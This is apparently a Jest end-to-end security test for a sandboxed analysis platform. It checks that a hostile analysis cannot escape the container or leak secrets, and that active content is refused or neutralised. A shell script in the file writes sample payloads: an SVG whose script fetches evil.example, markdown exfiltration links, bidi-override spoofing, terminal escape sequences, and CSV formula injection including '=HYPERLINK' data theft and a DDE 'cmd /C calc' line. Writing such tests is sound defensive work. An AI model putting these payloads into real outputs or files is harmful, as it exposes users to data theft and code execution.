// A hostile analysis through the whole platform: a developer submits it, the checks pass it (it behaves
// like any analysis: it writes a valid result), an admin approves it, and a user runs it on their data.
// Every attack it reports fails, its result and logs leak none of the platform's secrets, and the host
// keeps nothing of the run. A second one writes output meant to act when the user opens it: none of it
// reaches the user as it was written.
import { existsSync } from 'node:fs';
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { loadConfig } from '@lockbox/config';
import { dockerClientFor } from '@lockbox/sandbox';
import { buildTestAnalysisImage, publishTestAnalysis } from '../support/analysis-images';
import { api, apiUrl, createSession, eventually, type Session, upload } from '../support/session';
import { openEventStream } from '../support/sse';
import { ATTACK_SH } from './hostile-images';

jest.setTimeout(300_000);

const config = loadConfig();
const docker = dockerClientFor(config.docker.host);

it('runs a hostile analysis for a user: every attack fails, nothing leaks, nothing is left behind', async () => {
  const [user, developer] = await Promise.all([createSession('user'), createSession('developer')]);
  const image = await buildTestAnalysisImage('busybox', { 'attack.sh': ATTACK_SH });
  const hostile = await publishTestAnalysis({
    base: 'busybox',
    image,
    developer,
    manifest: { title: 'Totally harmless', entrypoint: ['/bin/sh', '/app/attack.sh', 'combined', new URL(apiUrl()).port] },
  });

  const datasetId = await readyDataset(user);

  const accepted = await api('POST', '/runs', {
    token: user.token,
    body: { analysis: hostile.slug, datasetIds: [datasetId], consent: { scopes: { 'social.posts': ['timestamp', 'likes'] } } },
  });
  expect(accepted.status).toBe(202);
  const runId: string = accepted.body.id;
  const run = await finished(user, runId);
  expect(run).toMatchObject({ status: 'succeeded', reason: null });

  const result = await api('GET', `/runs/${runId}/result`, { token: user.token });
  expect(result.status).toBe(200);
  const rows: Array<[string, string]> = result.body.blocks[0].rows;
  expect(rows.map(([attack]) => attack)).toEqual([
    'egress-ip',
    'bridge-gateway',
    'dns',
    'read-shadow',
    'docker-socket',
    'write-root',
    'write-input',
    'write-app',
  ]);
  expect(rows.filter(([, outcome]) => outcome !== 'blocked')).toEqual([]);

  // The analysis printed its whole environment: none of the platform's secrets or addresses were in it.
  const logs = await api('GET', `/runs/${runId}/logs`, { token: user.token });
  expect(logs.status).toBe(200);
  const text = JSON.stringify(logs.body) + JSON.stringify(result.body);
  expect(text).toContain('HOSTNAME=analysis');
  for (const secret of [
    config.auth.jwtSecret,
    config.database.url,
    config.redis.url,
    config.s3.credentials?.secretAccessKey ?? 'S3RVER',
    'postgres://',
    config.home,
  ]) {
    expect(text).not.toContain(secret);
  }

  // The host: no file the analysis tried to create, no container, no staging directory of the run.
  expect(existsSync('/lockbox-escape')).toBe(false);
  expect(await docker.listContainers({ all: true, filters: { label: [`lockbox.run=${runId}`] } })).toEqual([]);
  await eventually(
    async () => ((await readdir(join(config.home, 'work', 'runs')).catch(() => [])).some((name) => name.startsWith(runId)) ? undefined : true),
    30_000,
    "the run's staging directory to go",
  );
});

/**
 * Output meant to act when the user opens it, one case per run (the `case` param): a result whose summary
 * a bidi override shows reversed, whose markdown links off the platform and whose chart runs an expression
 * and listens to events; a scripted SVG and an HTML page named .png; a CSV of formulas, after a progress
 * message full of escape sequences and bidi controls.
 */
const ACTIVE_CONTENT_SH = String.raw`#!/bin/sh
case "$(sed -n 's/.*"case":"\([a-z-]*\)".*/\1/p' /input/run.json)" in
  result)
    cat > /output/result.json <<'EOF'
{"schemaVersion":1,"summary":"Report \u202etxt.exe","blocks":[
 {"type":"markdown","text":"[Open your full report](https://evil.example/?d=secret)"},
 {"type":"markdown","text":"See [the details][d].\n\n[d]: https://evil.example/collect"},
 {"type":"chart","title":"Posts","spec":{"data":{"values":[{"a":1}]},"mark":"bar",
  "params":[{"name":"p","select":{"type":"point","on":"mouseover"}}],
  "encoding":{"x":{"field":"a","type":"ordinal","axis":{"labelExpr":"'x' + datum.value"}}}}}]}
EOF
    ;;
  artifacts)
    mkdir /output/artifacts
    printf '%s' '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example")</script></svg>' > /output/artifacts/chart.svg
    printf '%s' '<html><script>alert(1)</script></html>' > /output/artifacts/photo.png
    printf '%s' '{"schemaVersion":1,"summary":"Artifacts","blocks":[]}' > /output/result.json
    ;;
  csv-and-progress)
    cat >&2 <<'EOF'
{"progress":0.5,"message":"\u001b[2J\u001b[31mReading\u001b[0m \u202eslaes\u202c posts\u2067!\u2069\u200b \u001b]8;;https://evil.example\u0007now\u001b]8;;\u0007"}
EOF
    sleep 1
    mkdir /output/artifacts
    cat > /output/artifacts/posts.csv <<'EOF'
post,likes
"=HYPERLINK(""https://evil.example/?d=""&A3,""Open"")",3
@friend thanks,-2
+cmd|' /C calc'!A0,1
plain words,4
EOF
    printf '%s' '{"schemaVersion":1,"summary":"Posts exported","blocks":[]}' > /output/result.json
    ;;
  *) echo "unknown case" >&2; exit 64 ;;
esac
`;

it('refuses results and artifacts with active content, neutralises formula CSVs and strips escapes from progress', async () => {
  const [user, developer] = await Promise.all([createSession('user'), createSession('developer')]);
  const cases = ['result', 'artifacts', 'csv-and-progress'];
  const analysis = await publishTestAnalysis({
    base: 'busybox',
    files: { 'active.sh': ACTIVE_CONTENT_SH },
    developer,
    manifest: {
      title: 'Helpful report',
      entrypoint: ['/bin/sh', '/app/active.sh'],
      params: { type: 'object', properties: { case: { type: 'string', enum: cases } } },
    },
  });
  const datasetId = await readyDataset(user);
  const events = await openEventStream({ token: user.token });
  try {
    const runIds: Record<string, string> = {};
    for (const name of cases) {
      const accepted = await api('POST', '/runs', {
        token: user.token,
        body: { analysis: analysis.slug, datasetIds: [datasetId], params: { case: name }, consent: { scopes: { 'social.posts': ['timestamp', 'likes'] } } },
      });
      expect(accepted.status).toBe(202);
      runIds[name] = accepted.body.id;
    }

    // The result: refused whole, each active part named, nothing of it kept.
    const result = await finished(user, runIds.result!);
    expect(result).toMatchObject({ status: 'failed', reason: 'output_invalid', hasResult: false, resultSummary: null, artifacts: [] });
    expect(result.message).toBe(
      'Result.json: ' +
        [
          'summary must be one line of plain text, but has a bidirectional control (U+202E) at character 7; line breaks, control characters, bidirectional controls and invisible formatting characters are not allowed',
          'blocks[0].text is rejected: markdown must not contain links ("](" at character 22); write a URL as plain text, which is shown but never linked, or "]\\(" for a literal "]("',
          'blocks[1].text is rejected: markdown must not contain link or footnote definitions ("]:" at character 25); write a URL as plain text, or "]\\:" for a literal "]:"',
          'blocks[2].spec.params is not allowed: parameters and selections are not supported, since their event streams (on, clear), bindings and expressions are code',
          'blocks[2].spec.encoding.x.axis.labelExpr is not allowed: expressions are code; compute the labels in the analysis (e.g. as a field) instead',
        ].join('; ') +
        '.',
    );
    expect((await api('GET', `/runs/${runIds.result}/result`, { token: user.token })).status).toBe(409);

    // The artifacts: the run fails, naming each artifact and why; neither is stored or served.
    const artifacts = await finished(user, runIds.artifacts!);
    expect(artifacts).toMatchObject({ status: 'failed', reason: 'output_invalid', hasResult: false, artifacts: [] });
    expect(artifacts.message).toBe(
      'Output/artifacts/chart.svg has a <script> element: scripts are code (line 1); ' +
        'output/artifacts/photo.png is not a PNG image: it does not start with the PNG signature.',
    );
    expect((await api('GET', `/runs/${runIds.artifacts}/artifacts/chart.svg`, { token: user.token })).status).toBe(404);

    // Progress reaches the live channel and the run as one line of plain text.
    const plain = 'Reading slaes posts! now';
    const progress = await events.next((event) => event.event === 'run.progress' && event.json.subjectId === runIds['csv-and-progress'], 60_000);
    expect(progress.json.payload).toEqual({ runId: runIds['csv-and-progress'], progress: 0.5, message: plain });
    const exported = await finished(user, runIds['csv-and-progress']!);
    expect(exported).toMatchObject({ status: 'succeeded', progressMessage: plain });

    // The CSV comes back with every formula cell neutralised, and nothing else changed.
    const neutralised = [
      'post,likes',
      `"'=HYPERLINK(""https://evil.example/?d=""&A3,""Open"")",3`,
      "'@friend thanks,-2",
      "'+cmd|' /C calc'!A0,1",
      'plain words,4',
      '',
    ].join('\n');
    expect(exported.artifacts).toEqual([{ name: 'posts.csv', bytes: Buffer.byteLength(neutralised), contentType: 'text/csv; charset=utf-8' }]);
    const csv = await api('GET', `/runs/${runIds['csv-and-progress']}/artifacts/posts.csv`, { token: user.token });
    expect(csv).toMatchObject({ status: 200, body: neutralised });
    expect(csv.headers.get('content-disposition')).toBe('attachment; filename="posts.csv"');
    expect(csv.headers.get('x-content-type-options')).toBe('nosniff');
  } finally {
    events.close();
  }
});

/** Uploads one record for `user` and waits until the dataset is ready; returns its id. */
async function readyDataset(user: Session): Promise<string> {
  const record = { kind: 'social.posts', timestamp: '2026-01-05T18:20:00Z', platform: 'x', type: 'post', text: 'private words', likes: 3 };
  const dataset = await upload(
    '/datasets',
    [
      { name: 'format', content: 'lockbox-jsonl' },
      { name: 'file', content: Buffer.from(JSON.stringify(record)), filename: 'export.jsonl', contentType: 'application/x-ndjson' },
    ],
    { token: user.token },
  );
  expect(dataset.status).toBe(202);
  await eventually(
    async () => ((await api('GET', `/datasets/${dataset.body.id}`, { token: user.token })).body.status === 'ready' ? true : undefined),
    60_000,
    'ingestion',
  );
  return dataset.body.id;
}

/** The run, once it has left queued and running. */
async function finished(user: Session, runId: string): Promise<any> {
  return eventually(
    async () => {
      const response = await api('GET', `/runs/${runId}`, { token: user.token });
      return ['queued', 'running'].includes(response.body.status) ? undefined : response.body;
    },
    120_000,
    `run ${runId}`,
  );
}
